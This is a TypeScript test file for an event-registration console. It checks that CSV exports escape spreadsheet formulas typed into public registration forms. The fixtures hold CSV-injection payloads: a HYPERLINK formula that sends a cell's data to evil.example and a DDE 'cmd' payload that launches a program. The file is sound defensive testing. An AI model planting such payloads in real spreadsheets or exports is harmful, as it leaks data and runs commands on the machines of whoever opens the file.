import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { TestHub } from '../../support/index.js';
import { login, startConsoleHub, submit, type Client } from './console.js';

/** Issue #20, item 4: a stranger's registration must not become a formula in the facilitator's Excel. */
describe('CSV exports of what strangers typed', () => {
  let hub: TestHub;
  let f: Client;
  let member: string;
  const hostile = { fullName: '=HYPERLINK("http://evil.example/?"&A2;"Aminata")', organisation: "+cmd|' /C calc'!A0" };

  before(async () => {
    hub = await startConsoleHub();
    f = await login(hub.url, 'facilitator');
    // A public registration, as any phone on the Wi-Fi can send it.
    member = await submit(hub, 'registration', { ...hostile, sex: 'F', ageBand: '25-35', commune: 'kayes', phone: '+223 76 12 34 56', consent: true });
    await submit(hub, 'registration', { fullName: '@SUM(1+1)*cmd', organisation: '-2+3', sex: 'M', ageBand: '15-24', commune: 'kayes', consent: true });
    assert.equal((await f.post('/admin/events/formation-budget/attendance', { member })).status, 303);
  });
  after(() => hub.stop());

  const cells = (text: string) => parse<Record<string, string>>(text, { bom: true, columns: true, delimiter: ';' });

  it('neutralises formulas in members.csv, separated by ";" with a BOM, phone numbers as text', async () => {
    // Buffer keeps the byte-order mark that fetch's text() drops.
    const text = Buffer.from(await (await f.get('/admin/members.csv')).arrayBuffer()).toString('utf8');
    assert.ok(text.startsWith('\ufeffid;nom;'), 'BOM, then ";" between cells');
    const rows = cells(text);
    const row = rows.find((r) => r.id === member)!;
    assert.equal(row.nom, `'${hostile.fullName}`);
    assert.equal(row.organisation, `'${hostile.organisation}`);
    assert.equal(row['téléphone'], '="+223 76 12 34 56"');
    const other = rows.find((r) => r.id !== member)!;
    assert.equal(other.nom, "'@SUM(1+1)*cmd");
    assert.equal(other.organisation, "'-2+3");
    for (const r of rows)
      for (const [k, v] of Object.entries(r))
        if (k !== 'téléphone') assert.doesNotMatch(v, /^[=+\-@\t\r]/, `no cell starts a formula except the phone's text formula: ${v}`);
  });

  it('neutralises formulas in the attendance CSV', async () => {
    const rows = cells(await (await f.get('/admin/events/formation-budget/attendance.csv')).text());
    assert.equal(rows.length, 1);
    assert.equal(rows[0]!.nom, `'${hostile.fullName}`);
    assert.equal(rows[0]!['téléphone'], '="+223 76 12 34 56"');
    assert.equal(rows[0]!['n°'], '1', 'numbers stay numbers');
  });
});
